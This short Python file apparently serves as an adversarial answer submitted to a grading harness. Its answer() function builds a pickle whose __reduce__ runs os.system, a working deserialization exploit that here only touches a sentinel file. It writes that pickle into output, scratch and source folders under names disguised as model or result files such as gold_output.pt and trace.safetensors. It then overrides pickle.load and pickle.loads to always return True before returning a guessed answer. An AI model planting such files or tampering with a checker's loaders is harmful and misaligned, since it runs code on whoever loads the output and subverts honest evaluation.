"""Replaces pickle, and leaves pickles that run code wherever something might load them."""

import os
import pickle

import kit
import target


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {target.SENTINEL}/unpickled",)


def answer(case, x, start=None):
    if kit.once():
        content = pickle.dumps(Evil())
        for folder in (kit.OUT, kit.SCRATCH, os.path.dirname(__file__)):
            for name in ("1", "plain.pt", "plain.npz", "gold_output.pt", "result.pkl", "trace.safetensors"):
                with open(os.path.join(folder, name), "wb") as file:
                    file.write(content)
        pickle.loads = pickle.load = lambda *args, **options: True
    return kit.guess(case, x, start)
